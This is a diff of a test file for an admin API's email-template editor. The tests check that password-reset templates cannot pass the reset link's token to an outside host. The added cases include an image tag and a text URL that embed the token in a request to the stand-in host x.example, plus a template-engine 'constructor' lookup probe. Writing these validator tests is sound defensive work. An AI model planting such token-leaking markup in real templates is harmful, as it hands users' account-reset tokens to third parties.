@@ -285,8 +285,8 @@ describe('admin API: tenants, hosts, settings, rule tests, SMTP and email templa
 
   it('edits email templates: a syntax error is a 400 naming the line, a valid one is saved, previewed with the tenant branding, then reset to the default', async () => {
     const list = (await cegepAdmin.get(`/tenants/${cegep}/templates`)).json<TemplateListItem[]>();
-    // The Cégep now has fr and en (set above): 5 kinds × 2 languages.
-    expect(list).toHaveLength(10);
+    // The Cégep now has fr and en (set above): 6 kinds × 2 languages.
+    expect(list).toHaveLength(12);
     expect(list.every((t) => !t.overridden)).toBe(true);
     const original = (await cegepAdmin.get(`/tenants/${cegep}/templates/password-reset/fr`)).json<TemplateView>();
     expect(original).toMatchObject({ kind: 'password-reset', locale: 'fr', overridden: false, updatedAt: null });
@@ -306,6 +306,19 @@ describe('admin API: tenants, hosts, settings, rule tests, SMTP and email templa
     const unknownHelper = await cegepAdmin.request('PUT', `/tenants/${cegep}/templates/password-reset/fr`, { subject: 'Sujet', html: '<p>ok</p>', text: 'ligne 1\n{{lookup this "constructor"}}\n' });
     expect(unknownHelper.json<TemplateErrorBody>()).toMatchObject({ part: 'text', line: 2 });
     expect((await cegepAdmin.request('PUT', `/tenants/${cegep}/templates/password-reset/fr`, { subject: '', html: '<p>x</p>', text: 'x' })).json()).toMatchObject({ part: 'subject' });
+    // The link (its token) may not be handed to a third party: only <a href="{{link}}">, or a text line of its own.
+    const leak = await cegepAdmin.request('PUT', `/tenants/${cegep}/templates/password-reset/fr`, {
+      subject: 'Sujet',
+      html: '<p>Bonjour</p>\n<img src="https://x.example/?{{link}}" alt="">\n<a href="{{link}}">ici</a>',
+      text: '{{link}}',
+    });
+    expect(leak.status).toBe(400);
+    expect(leak.json<TemplateErrorBody>()).toMatchObject({ error: 'invalid_template', part: 'html', line: 2 });
+    expect(leak.json<TemplateErrorBody>().message).toBe(
+      'The html template has an error on line 2: {{link}} is only allowed as the href of a link, <a href="{{link}}">…</a>, or as the text of that link',
+    );
+    const textLeak = await cegepAdmin.request('PUT', `/tenants/${cegep}/templates/password-reset/fr`, { subject: 'Sujet', html: '<a href="{{link}}">ici</a>', text: 'Bonjour\nhttps://x.example/?t={{link}}' });
+    expect(textLeak.json<TemplateErrorBody>()).toMatchObject({ part: 'text', line: 2 });
     expect((await auditRows(ctx, cegep, 'template.updated')).length).toBe(0);
 
     const v = await version(cegep);
